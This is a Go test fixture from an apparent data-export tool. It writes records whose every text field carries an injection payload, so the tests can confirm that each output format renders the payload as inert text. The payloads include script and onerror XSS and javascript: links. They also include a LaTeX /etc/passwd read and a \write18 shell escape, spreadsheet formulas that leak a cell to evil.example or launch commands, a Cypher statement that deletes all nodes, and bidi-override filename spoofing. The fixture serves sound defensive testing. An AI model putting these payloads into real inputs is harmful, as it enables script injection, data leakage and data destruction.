// Package hostile writes a record file whose text fields each carry an
// attack on some output format: markup and script for HTML and the web
// app, links and math for Markdown, commands for LaTeX and BibTeX,
// formulas for spreadsheets, a statement for Cypher scripts, and
// bidirectional controls that would reorder the text around them. The
// tests of every output load it and check that each attack comes out as
// text.
package hostile

import (
	"io"

	"github.com/exportwatch/exportwatch/records"
)

// The attacks, one per format family. Pwned is the global a script that
// ran would set, for the browser tests to look for.
const (
	Pwned  = "__pwned"
	Script = `<script>window.__pwned="script"</script><img src=x onerror="window.__pwned='img'"><a href="javascript:window.__pwned='a'">open</a>`
	// Markdown: a link and an image (a tracking pixel), raw HTML, a
	// heading and a table cell if it reached a line's start, and math
	// (GitHub renders $…$ as LaTeX).
	Markdown = `[open](javascript:window.__pwned='md') ![pixel](https://track.example/p.png) <b>bold</b> *em* # not a heading | not a cell | $\color{red}{\text{forged}}$`
	// LaTeX: file reads, shell escapes and unbalanced braces.
	LaTeX = `\input{/etc/passwd} \write18{touch /tmp/pwned} }{ % 100% & _x_ ^ ~`
	// Formula is a spreadsheet formula at the start of a cell; the others
	// start with the other characters a spreadsheet reads as one.
	Formula = `=HYPERLINK("https://evil.example/?leak="&A1,"open")`
	Plus    = `+cmd|' /C calc'!A0`
	Minus   = `-2+3+cmd|' /C calc'!A0`
	At      = `@SUM(1+1)*cmd|' /C calc'!A0`
	// Cypher ends a string literal and the statement in an exported
	// script.
	Cypher = `'; MATCH (n) DETACH DELETE n; //`
	// Bidi: a right-to-left override left open, one closed, and a stray
	// pop of an isolate that no one opened, which would end an isolate
	// around the text early.
	Bidi = "Innocent \u202Egnp.exe\u202C trade \u202Eunclosed \u2069\u202Eafter a stray pop"
)

// IDs of what File writes.
const (
	Vendor   = "company/hostile-vendor"
	Buyer    = "body/hostile-buyer"
	Formulas = "company/hostile-formula"
	// URL is the document's; its query is percent-encoded markup.
	URL = "https://hostile.example/report?id=1&x=%3Cscript%3E"
)

// Text is every attack in one string, for the fields that take free text.
const Text = Script + " " + Markdown + " " + LaTeX + " " + Cypher + " " + Bidi

// File writes a document, three entities and two claims whose every text
// field is hostile. The entities' names lead with the attacks a field's
// start matters for (formulas, Markdown).
func File(w io.Writer) error {
	out := records.NewWriter(w)
	doc := records.Document{ID: records.DocumentID(URL), URL: URL, Title: "Report " + Text, Publisher: "Publisher " + LaTeX + " " + Bidi,
		Published: "2025-03", Origin: records.OriginCurated}
	ents := []records.Entity{
		{Schema: records.SchemaCompany, ID: Vendor, Names: []string{"Vendor " + Script + " " + Bidi, Markdown}, Country: "CA",
			Description: "Description " + Text, Document: doc.ID},
		{Schema: records.SchemaPublicBody, ID: Buyer, Names: []string{Bidi + " Ministry " + LaTeX}, Country: "BY", Document: doc.ID},
		{Schema: records.SchemaCompany, ID: Formulas, Names: []string{Formula, Plus, Minus, At}, Country: "GB",
			Description: Formula, Document: doc.ID},
	}
	claims := []records.Claim{
		{Relation: records.RelSupplied, Subject: Vendor, Object: Buyer, Status: records.StatusReported, Confidence: 0.5, Start: "2025",
			Summary: "Summary " + Text, Extractor: "hostile/1",
			Evidence: []records.Evidence{{Document: doc.ID, Quote: "Quote " + Text, Locator: "¶ " + Markdown}}},
		{Relation: records.RelSupplied, Subject: Formulas, Object: Buyer, Status: records.StatusReported, Confidence: 0.5, Start: "2024",
			Summary: Plus, Extractor: "hostile/1",
			Evidence: []records.Evidence{{Document: doc.ID, Quote: Formula + " " + At, Locator: Minus}}},
	}
	if err := out.WriteDocument(doc); err != nil {
		return err
	}
	for _, e := range ents {
		if err := out.WriteEntity(e); err != nil {
			return err
		}
	}
	for _, c := range claims {
		if err := out.WriteClaim(c); err != nil {
			return err
		}
	}
	return out.Flush()
}
